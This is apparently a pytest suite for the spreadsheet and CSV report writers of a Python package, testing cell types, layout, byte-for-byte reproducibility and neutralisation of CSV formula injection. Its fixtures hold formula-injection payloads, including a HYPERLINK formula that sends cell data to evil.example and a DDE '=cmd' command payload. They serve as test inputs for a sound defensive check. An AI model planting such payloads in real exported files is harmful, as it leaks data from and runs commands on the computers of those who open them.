"""findings.xlsx and the CSV tables: typed cells, autofilter, widths, formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import math
import re
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import netorg
from netorg import _xlsx as xlsx
from netorg._xlsx import workbook_bytes
from netorg.report import tables
from netorg.report.tables import (
    MAX_WIDTH,
    _excel_cell,
    _excel_value,
    neutralise,
    to_table,
    write_csv,
    write_xlsx,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "org": [EVIL, "+31 Zorg", "-Min", "@Home", "Gewoon", "\tTab", "\rCR", None],
            "reasons": ["ok", "=1+1", "fine", "- bullet", "x", "y", "z", ""],
            "contacts": [("Alice", "=cmd|' /C calc'!A0"), (), ("Bob",), (), (), (), (), ()],
            "value": [-1.5, 2.0, np.nan, -3.0, 0.0, 1e9, 4.25, -0.5],
            "count": pd.array([-1, 2, None, 4, 5, 6, 7, 8], dtype="Int64"),
            "active": [True, False, True, True, False, True, False, True],
            "end": pd.to_datetime(
                ["2026-11-30", None, "2024-01-01", "2025-02-28", None, None, None, None]
            ).astype("datetime64[s]"),
            "long": ["word " * 40] + [""] * 7,
        }
    )


def test_neutralise_follows_owasp() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert neutralise(f"{trigger}x") == f"'{trigger}x"
    for safe in ("", "Zorg", "a=b", " =1", "'=already"):
        assert neutralise(safe) == safe


def test_csv_neutralises_text_and_keeps_numbers(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_csv(frame, tmp_path / "t.csv")
    raw = path.read_text(encoding="utf-8")
    assert "\r\n" not in raw
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    orgs = [r[col["org"]] for r in body]
    assert orgs[:7] == ["'" + EVIL, "'+31 Zorg", "'-Min", "'@Home", "Gewoon", "'\tTab", "'\rCR"]
    assert orgs[7] == ""
    assert body[1][col["reasons"]] == "'=1+1"
    assert body[3][col["reasons"]] == "'- bullet"
    # every element of a ;-joined list is neutralised too
    assert body[0][col["contacts"]] == "Alice;'=cmd|' /C calc'!A0"
    # negative numbers stay numbers: written bare, not quoted, no prefix
    assert body[0][col["value"]] == "-1.5"
    assert body[0][col["count"]] == "-1"
    assert body[0][col["end"]] == "2026-11-30" and body[1][col["end"]] == ""
    assert body[0][col["active"]] == "True"
    lines = raw.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")  # text is quoted (OWASP: wrap in quotes)
    assert ",-1.5," in lines[1]  # numbers are not
    back = pd.read_csv(path)
    assert back["value"].iloc[0] == -1.5 and back["count"].iloc[0] == -1


def test_to_table_leaves_the_input_alone(frame: pd.DataFrame) -> None:
    before = frame.copy()
    table = to_table(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert table["org"].iloc[0] == "'" + EVIL


def _pandas_csv(frame: pd.DataFrame) -> bytes:
    """The CSV the writer's first form made: pandas on :func:`to_table`."""
    text = to_table(frame).to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    return text.encode("utf-8")


@pytest.fixture
def awkward(frame: pd.DataFrame) -> pd.DataFrame:
    """The ``frame`` fixture and columns that are hard to write as pandas does."""
    extra = pd.DataFrame(
        {
            "floats": [1.0, 1e-05, 1e22, -0.0, math.inf, -math.inf, np.nan, 0.1 + 0.2],
            "float32": np.array([0.1, 1.5, np.nan, 3.3, 0, -0.0, 1e-05, 7], dtype=np.float32),
            "Float64": pd.array([1.5, None, 0.1, 1e16, -2.0, 0.0, None, 3.0], dtype="Float64"),
            "Int64": pd.array([None, 2**63 - 1, -(2**63), 0, 5, None, 7, 8], dtype="Int64"),
            "uint64": np.array([0, 2**64 - 1, 2, 3, 4, 5, 6, 7], dtype=np.uint64),
            "boolean": pd.array([True, None, False, True, None, False, True, True], "boolean"),
            "string": pd.array(
                ['say "hi"', None, "a,b", "line\nbreak", "=1", "", "-", "é 漢字"], dtype="string"
            ),
            "str": pd.array(['"', "+x", None, "'q'", " ", ",", "\r\n", "ok"], dtype="str"),
            "text_lists": [("a", '"b"'), [], ("=c", "d,e"), None, (), ["x\ny"], ("-",), np.nan],
            "all_lists": [("a",), ["b"], {"-c", "d"}, frozenset(), (), None, ("e",), ["=f"]],
            "category": pd.Categorical(["a", "=b", None, 'c"', "a", "a", "b", None]),
            "dates": [dt.date(2020, 1, 2), None, dt.date(1999, 12, 31), *[dt.date(2026, 1, 1)] * 5],
            "stamps": pd.to_datetime(
                ["2026-06-30 23:30", None, *["2026-01-01 00:00"] * 6]
            ).tz_localize("Europe/Amsterdam"),
            "all_missing": [None, np.nan, pd.NA, None, None, None, None, None],
        }
    )
    return pd.concat([frame, extra], axis=1)


def test_csv_matches_the_pandas_writer(
    awkward: pd.DataFrame, every_dtype: pd.DataFrame, tmp_path: Path
) -> None:
    """Column-wise, the fields are exactly what pandas writes for :func:`to_table`: quoted
    text with doubled quotes, bare numbers as Python prints them, ``""`` for missing values,
    the header as pandas writes it."""
    cases = {
        "awkward": awkward,
        "every dtype": every_dtype,
        "one row": awkward.head(1),
        "empty": awkward.head(0),
        "no columns": pd.DataFrame(index=range(3)),
        "nothing": pd.DataFrame(),
    }
    for name, table in cases.items():
        written = write_csv(table, tmp_path / f"{name}.csv").read_bytes()
        assert written == _pandas_csv(table), name
    lines = (tmp_path / "awkward.csv").read_text(encoding="utf-8").split("\n")
    assert lines[0].startswith('"org","reasons"')
    assert ",1.0,0.1," in lines[1]  # a float32 printed as numpy prints it, not widened first


def test_csv_chunks_do_not_change_the_bytes(
    awkward: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = _pandas_csv(awkward)
    for cells in (1, 3 * awkward.shape[1]):  # a row at a time; three rows, the last chunk short
        monkeypatch.setattr(tables, "_CHUNK_CELLS", cells)
        assert write_csv(awkward, tmp_path / f"{cells}.csv").read_bytes() == whole


def test_csv_common_columns_are_written_column_wise(awkward: pd.DataFrame) -> None:
    """Columns of the usual dtypes are written column-wise; only mixed objects (a set among
    lists, date objects) go value by value."""
    kinds = {name: tables._CsvColumn(awkward[name]).kind for name in awkward.columns}
    assert kinds.pop("all_lists") == "other"  # a set among the lists
    assert kinds.pop("dates") == "other"  # date objects, not datetime64
    assert "other" not in kinds.values()


def test_lists_of_text_are_joined_column_wise() -> None:
    values = np.array([("a", "=b"), [], None, ("-c",), np.nan], dtype=object)
    joined = tables._object_text(values)
    assert joined is not None
    assert joined.to_pylist() == ["a;'=b", "", None, "'-c", None]
    for other in ({"a"}, ("a", 1), "ab", b"ab", np.array(["a"])):
        assert tables._object_text(np.array([("a",), other], dtype=object)) is None


def _read(path: Path, sheet: str) -> tuple[list[str], list[list[object]]]:
    ws = load_workbook(path)[sheet]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    return [str(v) for v in rows[0]], rows[1:]


def test_xlsx_cells_are_typed(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame, "other": frame.head(2)}, tmp_path / "f.xlsx")
    book = load_workbook(path)
    ws = book["t"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    first = ws[2]
    value = first[col["value"]]
    assert value.data_type == "n" and value.value == -1.5  # a negative number, untouched
    assert first[col["count"]].value == -1 and first[col["count"]].data_type == "n"
    assert first[col["active"]].data_type == "b" and first[col["active"]].value is True
    assert ws[3][col["active"]].value is False
    end = first[col["end"]]
    assert end.is_date and end.number_format == "yyyy-mm-dd"
    assert end.value == dt.datetime(2026, 11, 30)
    assert ws[3][col["end"]].value is None  # missing date: empty cell
    assert ws[4][col["value"]].value is None  # NaN: empty cell
    assert first[col["contacts"]].value == "Alice;'=cmd|' /C calc'!A0"
    assert first[col["contacts"]].data_type == "s"


def test_xlsx_neutralises_and_never_writes_formulas(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame}, tmp_path / "f.xlsx")
    header, rows = _read(path, "t")
    orgs = [r[header.index("org")] for r in rows]
    assert orgs[:6] == ["'" + EVIL, "'+31 Zorg", "'-Min", "'@Home", "Gewoon", "'\tTab"]
    assert orgs[6] in ("'\rCR", "'\nCR")  # XML readers may turn a bare CR into LF
    assert orgs[7] is None
    assert rows[1][header.index("reasons")] == "'=1+1"
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_openpyxl_would_make_a_formula_but_we_write_text() -> None:
    """openpyxl reads any string starting with '=' as a formula; the writer prevents it."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    from openpyxl.cell import WriteOnlyCell

    assert WriteOnlyCell(sheet, value="=1+1").data_type == "f"  # openpyxl's default
    for text in ("=1+1", "#N/A", "#REF!"):
        cell = _excel_cell(sheet, text)
        assert not isinstance(cell, str) and cell.data_type == "s"  # type: ignore[attr-defined]
    assert _excel_cell(sheet, "bell\x07") == "bell\ufffd"  # XML cannot hold it
    assert _excel_cell(sheet, "") is None


def test_xlsx_layout_filter_freeze_and_widths(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame, "empty": frame.head(0)}, tmp_path / "f.xlsx")
    book = load_workbook(path)
    for name, rows in (("t", len(frame)), ("empty", 0)):
        ws = book[name]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:H{rows + 1}"
    widths = {k: v.width for k, v in book["t"].column_dimensions.items()}
    assert set(widths) == set("ABCDEFGH")
    assert all(8 <= w <= MAX_WIDTH for w in widths.values())
    assert widths["H"] == MAX_WIDTH  # the long text column is capped
    assert widths["G"] == 12  # a date: yyyy-mm-dd plus margin
    with zipfile.ZipFile(path) as archive:
        assert b"_FilterDatabase" in archive.read("xl/workbook.xml")


def test_xlsx_is_reproducible(frame: pd.DataFrame, tmp_path: Path) -> None:
    one = write_xlsx({"t": frame}, tmp_path / "one.xlsx").read_bytes()
    two = write_xlsx({"t": frame}, tmp_path / "two.xlsx").read_bytes()
    assert one == two


@pytest.fixture(scope="module")
def evil_eco() -> netorg.Ecosystem:
    orgs = pd.DataFrame(
        {
            "id": ["A", "B", "C", "D"],
            "name": [EVIL, "+31 Zorg", "-Min", "@Home"],
            "type": ["municipality", "care_provider", "care_provider", "school"],
        }
    )
    agreements = pd.DataFrame(
        {
            "id": ["X1", "X2", "X3"],
            "type": ["purchase", "covenant", "purchase"],
            "source": ["A", "B", "A"],
            "target": ["B", "C", "D"],
            "contacts": ["=1+1;Alice", "", ""],
            "start": ["2020-01-01", "2021-01-01", "2019-01-01"],
            "end": ["", "", "2030-12-31"],
        }
    )
    return netorg.from_frames(orgs, agreements, as_of="2024-01-01", name="evil")


def test_analyze_outputs_are_neutralised(evil_eco: netorg.Ecosystem, tmp_path: Path) -> None:
    netorg.write_outputs(evil_eco, tmp_path)
    ties = pd.read_csv(tmp_path / "ties.csv", keep_default_na=False)
    names = set(ties["org_a_name"]) | set(ties["org_b_name"])
    assert names == {"'" + EVIL, "'+31 Zorg", "'-Min", "'@Home"}
    risks = pd.read_csv(tmp_path / "risks.csv", keep_default_na=False)
    assert all(not d.startswith(("=", "+", "-", "@")) for d in risks["detail"])
    assert any(d.startswith("'=HYPERLINK") for d in risks["detail"])  # a reason naming it
    assert set(ties["contacts"]) >= {"'=1+1;Alice"}
    header, rows = _read(tmp_path / "findings.xlsx", "ties")
    xlsx_names = {r[header.index("org_a_name")] for r in rows}
    assert xlsx_names <= {"'" + EVIL, "'+31 Zorg", "'-Min", "'@Home"}
    assert {r[header.index("n_agreements")] for r in rows} == {1}  # numbers stay numbers
    first_start = rows[0][header.index("first_start")]
    assert isinstance(first_start, dt.datetime)  # a real date
    header, rows = _read(tmp_path / "findings.xlsx", "risks")
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


# -- the column-wise writer against the per-cell openpyxl writer it replaced -----------------


def _reference_xlsx(sheets: dict[str, pd.DataFrame], path: Path) -> Path:
    """findings.xlsx as the per-cell writer made it: every value through :func:`_excel_value`
    and :func:`_excel_cell`, appended row by row to openpyxl's write-only sheets."""
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    for name, frame in sheets.items():
        sheet = book.create_sheet(name[:31])
        sheet.freeze_panes = "A2"
        header = [neutralise(str(c)) for c in frame.columns]
        columns = [_reference_column(frame.iloc[:, i]) for i in range(frame.shape[1])]
        for i, (title, values) in enumerate(zip(header, columns, strict=True), start=1):
            sheet.column_dimensions[get_column_letter(i)].width = _reference_width(title, values)
        sheet.append([_excel_cell(sheet, title) for title in header])
        for row in zip(*columns, strict=True):
            sheet.append([_excel_cell(sheet, v) for v in row])
        if header:
            sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{len(frame) + 1}"
    path.write_bytes(workbook_bytes(book))
    return path


def _reference_column(series: pd.Series) -> list[object]:
    if pd.api.types.is_datetime64_any_dtype(series) and getattr(series.dt, "tz", None):
        series = series.dt.tz_localize(None)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Timestamp.to_pydatetime drops nanoseconds
        return [_excel_value(v) for v in series.astype(object)]


def _reference_width(title: str, values: list[object]) -> float:
    longest = len(title) + 2
    for value in values:
        if value is None:
            continue
        if isinstance(value, str):
            size = max(len(line) for line in value.split("\n"))
        elif isinstance(value, dt.datetime):
            size = len("yyyy-mm-dd hh:mm:ss")
        elif isinstance(value, dt.date):
            size = len("yyyy-mm-dd")
        elif isinstance(value, bool):
            size = 5
        else:
            size = len(str(value))
        longest = max(longest, size)
    return float(min(MAX_WIDTH, max(8, longest + 2)))


def _sheet_xml(path: Path) -> dict[str, bytes]:
    """Every part of the workbook but styles.xml, style ids in the sheets replaced by the
    number format they stand for (the two writers may number the styles differently)."""
    with zipfile.ZipFile(path) as archive:
        styles = archive.read("xl/styles.xml").decode()
        codes = dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles))
        xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles)
        assert xfs is not None
        formats = [codes.get(i, i) for i in re.findall(r'<xf numFmtId="(\d+)"', xfs.group(1))]
        parts = {}
        for name in archive.namelist():
            if name != "xl/styles.xml":
                parts[name] = re.sub(
                    rb' s="(\d+)"',
                    lambda m: b' s="' + formats[int(m.group(1))].encode() + b'"',
                    archive.read(name),
                )
        return parts


def _cells(path: Path) -> dict[str, list[list[tuple[Any, str, str]]]]:
    """What openpyxl's reader sees: each cell's value, type and number format."""
    book = load_workbook(path)
    return {
        ws.title: [[(c.value, c.data_type, c.number_format) for c in row] for row in ws.rows]
        for ws in book.worksheets
    }


@pytest.fixture
def every_dtype() -> pd.DataFrame:
    n = 12

    def cycle(values: list[Any]) -> list[Any]:
        return (values * n)[:n]

    def dates(values: list[Any]) -> pd.DatetimeIndex:
        return pd.to_datetime(cycle(values), format="mixed")

    frame = pd.DataFrame(
        {
            "str": pd.array(
                cycle([EVIL, "+31", "-Min", "@Home", "\tTab", "\rCR", None, "", " lead", "x"]),
                dtype="str",
            ),
            "str_chunks": pd.concat(  # Arrow-backed text in two chunks
                [pd.Series(cycle(["a", "=b"])[:5], dtype="str"), pd.Series(cycle([None, "c"])[:7])]
            )
            .astype("str")
            .reset_index(drop=True),
            "text": [
                *("bell\x07", "\x00nul", "a\x0bb\x0cc", "\x1f", "ok\n=line", "<&>\"'", "#N/A"),
                *("#REF!", "é 漢字 😀", "trail\u3000", "   ", "\x85"),
            ],
            "lines": cycle(["a\n" + "b" * 30, "short", "\n", "x" * 40_000, None]),
            "lists": cycle([("Alice", "=cmd|' /C calc'!A0"), (), {"b", "-a"}, ["=x", 1], None]),
            "text_lists": cycle([("Alice", "=cmd"), (), ["-x", 'q"', "a\nb,c"], None, ("<&>",)]),
            "float": [
                *(-1.5, np.nan, 0.0, -0.0, 0.1 + 0.2, math.inf, -math.inf, 9.3, 1e16),
                *(5e-324, 1.7976931348623157e308, 123456789.123456789),
            ],
            "float32": np.array(cycle([0.1, 1.5, np.nan, 3.3]), dtype=np.float32),
            "Int64": pd.array(cycle([-1, None, 2**53 + 1, 10**16 - 1, -(10**17)]), dtype="Int64"),
            "uint64": np.array(cycle([0, 2**64 - 1, 10**16 - 1]), dtype=np.uint64),
            "int8": np.array(cycle([-128, 127, 0]), dtype=np.int8),
            "bool": cycle([True, False, True]),
            "boolean": pd.array(cycle([True, None, False]), dtype="boolean"),
            "date": dates(
                [
                    *("2026-11-30", None, "2024-01-01 12:30:15.123456", "1900-01-01"),
                    *("1900-02-28", "1900-03-01", "1899-12-30", "1899-12-29 18:00"),
                    *("1800-05-05 00:00:01", "9999-12-31"),
                ]
            ).astype("datetime64[s]"),
            "date_ns": dates(["2026-11-30 00:00:00.000000999", "1969-12-31 23:59:59.9999995"]),
            "date_tz": dates(["2026-06-30 12:00", None, "2026-01-01"]).tz_localize(
                "Europe/Amsterdam"
            ),
            "category": pd.Categorical(cycle(["a", "=b", None, "c"])),
            "mixed": [
                *(1, "two", 3.5, True, None, dt.date(2020, 1, 1), dt.datetime(2020, 1, 1, 5)),
                *(
                    pd.Timestamp("2021-01-01"),
                    decimal.Decimal("1.10"),
                    -math.inf,
                    np.int64(7),
                    b"x",
                ),
            ],
            "timedelta": pd.to_timedelta(cycle(["1 day", None, "2 hours"])),
            "string[python]": pd.array(cycle(["a", None, "-x", ""]), dtype="string[python]"),
            "object": np.array(cycle(["x", None, np.nan, "+y", pd.NA]), dtype=object),
            "none": [None] * n,
            "complex": np.array(cycle([1 + 2j, 3j]), dtype=complex),
            "=header": 1,
            "": "no header",
            "a\x01b": 2,
        }
    )
    frame[7] = 1.0
    return frame


def test_xlsx_matches_the_per_cell_writer(every_dtype: pd.DataFrame, tmp_path: Path) -> None:
    """Every dtype, control characters, formula triggers, long text, edge-case floats and
    dates: the same cells, widths, filter and frozen row as openpyxl's per-cell writer."""
    sheets = {
        "all": every_dtype,
        "empty": every_dtype.head(0),
        "no columns": pd.DataFrame(index=range(3)),
        "a sheet name longer than thirty-one characters": every_dtype.head(3),
    }
    new = write_xlsx(sheets, tmp_path / "new.xlsx")
    old = _reference_xlsx(sheets, tmp_path / "old.xlsx")
    assert _cells(new) == _cells(old)
    assert _sheet_xml(new) == _sheet_xml(old)  # the XML itself, apart from style numbers
    book = load_workbook(new)
    assert book.sheetnames == ["all", "empty", "no columns", "a sheet name longer than thirty"]
    ws = book["all"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:AA13"
    header = [c.value for c in ws[1]]
    assert "'=header" in header and "" not in header
    columns = {
        name: [row[i].value for row in ws.iter_rows(min_row=2)] for i, name in enumerate(header)
    }
    text = columns["text"]
    assert text[:4] == ["bell\ufffd", "\ufffdnul", "a\ufffdb\ufffdc", "\ufffd"]  # not XML
    assert text[4:7] == ["ok\n=line", "<&>\"'", "#N/A"]
    assert ws.cell(8, header.index("text") + 1).data_type == "s"  # text, not an error value
    assert text[9:11] == ["trail\u3000", "   "]  # whitespace kept
    assert columns["str"][:2] == ["'" + EVIL, "'+31"] and columns["str"][8] == " lead"
    assert columns["str"][6] is None and columns["str"][7] is None  # missing, empty
    assert len(columns["lines"][3]) == 32767  # openpyxl's limit for a cell
    assert columns["float"][:2] == [-1.5, None] and columns["float"][5:7] == ["inf", "-inf"]
    assert columns["Int64"][2] == 2**53  # 2**53 + 1 through a float, as openpyxl writes it


def test_xlsx_chunks_do_not_change_the_bytes(
    every_dtype: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = write_xlsx({"t": every_dtype}, tmp_path / "whole.xlsx").read_bytes()
    monkeypatch.setattr(tables, "_CHUNK_CELLS", 30)  # one row at a time
    assert write_xlsx({"t": every_dtype}, tmp_path / "rows.xlsx").read_bytes() == whole
    monkeypatch.setattr(tables, "_CHUNK_CELLS", 5 * every_dtype.shape[1])
    assert write_xlsx({"t": every_dtype}, tmp_path / "five.xlsx").read_bytes() == whole


def test_xlsx_deflate_blocks_do_not_depend_on_the_writes(
    every_dtype: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ISA-L's output depends on how its input is cut into calls: DeflatedRows hands it
    blocks of a fixed size, so rows written a row at a time or all at once give the same
    bytes, also when the blocks are smaller than a row; zipfile (which checks each CRC-32)
    and openpyxl read the cells back."""
    monkeypatch.setattr(xlsx, "DEFLATE_BLOCK", 97)  # many blocks, cut mid-row
    whole = write_xlsx({"t": every_dtype}, tmp_path / "whole.xlsx")
    monkeypatch.setattr(tables, "_CHUNK_CELLS", 30)  # one row per write
    rows = write_xlsx({"t": every_dtype}, tmp_path / "rows.xlsx")
    assert rows.read_bytes() == whole.read_bytes()
    with zipfile.ZipFile(whole) as archive:
        assert archive.testzip() is None
    monkeypatch.setattr(xlsx, "DEFLATE_BLOCK", 1 << 20)
    one_block = write_xlsx({"t": every_dtype}, tmp_path / "one.xlsx")
    assert _read(whole, "t") == _read(one_block, "t")


def test_xlsx_whitespace_class_is_pythons() -> None:
    """openpyxl decides ``xml:space="preserve"`` with ``str.strip``; the Arrow pattern must
    know the same whitespace."""
    import pyarrow as pa
    import pyarrow.compute as pc

    chars = [chr(c) for c in range(0x10000) if not 0xD800 <= c <= 0xDFFF]
    found = pc.match_substring_regex(pa.array(chars), f"^{tables._SPACE}$").to_pylist()
    assert [c for c, hit in zip(chars, found, strict=True) if hit] == [
        c for c in chars if c.isspace()
    ]


def test_xlsx_byte_classes_are_the_patterns() -> None:
    """The byte table that finds texts to escape, line breaks and whitespace at the ends
    agrees with the patterns it stands for on every ASCII character, and every wider
    whitespace character starts and ends with a byte the table leaves to the pattern."""
    import pyarrow as pa
    import pyarrow.compute as pc

    ascii_chars = pa.array([chr(c) for c in range(0x80)], type=pa.large_string())
    classes = tables._BYTE_CLASS[:0x80]
    escape = pc.match_substring_regex(ascii_chars, tables._TO_ESCAPE).to_pylist()
    assert [bool(c & tables._ESCAPE) for c in classes] == escape
    assert [bool(c & tables._NEWLINE) for c in classes] == [chr(c) == "\n" for c in range(0x80)]
    assert [bool(c & tables._ASCII_SPACE) for c in classes] == [
        chr(c).isspace() for c in range(0x80)
    ]
    wide = [chr(c) for c in range(0x80, 0x10000) if chr(c).isspace()]
    assert wide and all(ch.encode()[0] >= 0x80 and ch.encode()[-1] >= 0x80 for ch in wide)


def test_xlsx_byte_scans_of_sliced_and_null_texts() -> None:
    """The scans read Arrow's buffers directly: slices (as the writer's chunks are), nulls
    that hold bytes, and empty texts between give the same answers as the patterns."""
    import pyarrow as pa
    import pyarrow.compute as pc

    values = ["a&b", "", " x", None, "y\u3000", "\n", "plain", "\u2028", "z ", "é<"]
    whole = pa.array(values * 3, type=pa.large_string())
    # A null that holds bytes: the validity bitmap hides the text "hidden&\n ".
    hidden = pa.array(["ok", "hidden&\n ", "ok "], type=pa.large_string())
    masked = pa.Array.from_buffers(
        hidden.type, 3, [pa.array([True, False, True]).buffers()[1], *hidden.buffers()[1:]]
    )
    narrow = whole.cast(pa.string()).slice(3)  # 32-bit offsets
    for text in (whole, whole.slice(4, 17), whole.slice(0, 0), masked, masked.slice(1), narrow):
        space = pc.or_(
            pc.match_substring_regex(pc.utf8_slice_codeunits(text, 0, 1), tables._SPACE),
            pc.match_substring_regex(pc.utf8_slice_codeunits(text, -1, 99), tables._SPACE),
        )
        expected_space = pc.fill_null(space, False).to_pylist()
        assert tables._space_at_either_end(text).tolist() == expected_space
        found = tables._byte_classes(text)
        escape = pc.fill_null(pc.match_substring_regex(text, tables._TO_ESCAPE), False)
        assert ((found & tables._ESCAPE) > 0).tolist() == escape.to_pylist()
        newline = pc.fill_null(pc.match_substring(text, "\n"), False)
        assert ((found & tables._NEWLINE) > 0).tolist() == newline.to_pylist()


def test_xlsx_large_sheets_get_zip64(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An entry or offset of 4 GiB or more needs ZIP64 fields; with the limit lowered, sizes,
    offsets and the directory's place all take that path, and Python's zipfile (which checks
    every CRC-32) and openpyxl read the same cells."""
    normal = write_xlsx({"t": frame}, tmp_path / "normal.xlsx")
    monkeypatch.setattr(xlsx, "_ZIP64_FROM", 1000)
    one = write_xlsx({"t": frame, "u": frame}, tmp_path / "one.xlsx")
    two = write_xlsx({"t": frame, "u": frame}, tmp_path / "two.xlsx")
    assert one.read_bytes() == two.read_bytes() != normal.read_bytes()
    monkeypatch.undo()
    data = one.read_bytes()
    assert b"PK\x06\x06" in data and b"PK\x06\x07" in data  # ZIP64 end records
    with zipfile.ZipFile(one) as archive:
        assert archive.testzip() is None
        sheet = archive.getinfo("xl/worksheets/sheet2.xml")
        assert sheet.file_size > 1000 and sheet.header_offset > 1000
    assert _cells(one) == {"t": _cells(normal)["t"], "u": _cells(normal)["t"]}


#: Characters where text cells differ from plain text: XML's illegal ones, the escaped ones,
#: Python's whitespace (some of it also illegal), formula triggers, and wide characters.
_TRICKY = "ab =-+@&<>\t\n\r\x00\x08\x0b\x0c\x1c\x1f\x85\xa0\u2028\u3000é漢😀"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet=_TRICKY, max_size=8)), max_size=30))
def test_xlsx_text_cells_match_the_per_cell_writer(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str | None]
) -> None:
    """Any mix of illegal, escaped and whitespace characters, at either end or inside: the
    same sheet XML as openpyxl's per-cell writer (each text is scanned once for what needs
    changing, and its ends are read off its first and last character)."""
    folder = tmp_path_factory.mktemp("texts")
    frame = pd.DataFrame({"text": pd.array(texts, dtype="str")})
    new = write_xlsx({"t": frame}, folder / "new.xlsx")
    old = _reference_xlsx({"t": frame}, folder / "old.xlsx")
    assert _sheet_xml(new) == _sheet_xml(old)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300), st.binary(max_size=300))
def test_crc32_of_joined_bytes_from_the_crc32_of_each(first: bytes, second: bytes) -> None:
    joined = xlsx._crc32_combine(zlib.crc32(first), zlib.crc32(second), len(second))
    assert joined == zlib.crc32(first + second)


def test_rows_deflated_in_many_writes_read_back_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The rows' deflate blocks sit between the sheet's own start and end in one entry.
    monkeypatch.setattr(tables, "_CHUNK_CELLS", 100)  # 50 rows per write
    frame = pd.DataFrame({"n": range(5000), "text": [f"row {i} & <more>" for i in range(5000)]})
    path = write_xlsx({"t": frame}, tmp_path / "f.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
    back = pd.read_excel(path, sheet_name="t")
    pd.testing.assert_frame_equal(back, frame)


def test_a_table_longer_than_a_sheet_continues_on_numbered_sheets(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    from netorg.report import tables

    monkeypatch.setattr(tables, "MAX_SHEET_ROWS", 3)
    frame = pd.DataFrame({"n": range(7), "name": [f"row {i}" for i in range(7)]})
    long_name = "a_table_with_a_very_long_name_indeed"
    path = tables.write_xlsx({"ties": frame, long_name: frame.head(2)}, tmp_path / "x.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["ties", "ties (2)", "ties (3)", long_name[:31]]
    values = [
        [row[0] for row in book[name].iter_rows(min_row=2, values_only=True)]
        for name in book.sheetnames[:3]
    ]
    assert values == [[0, 1, 2], [3, 4, 5], [6]]
    assert book["ties (3)"].auto_filter.ref == "A1:B2"
    assert book["ties (2)"]["A1"].value == "n"  # every part has the header
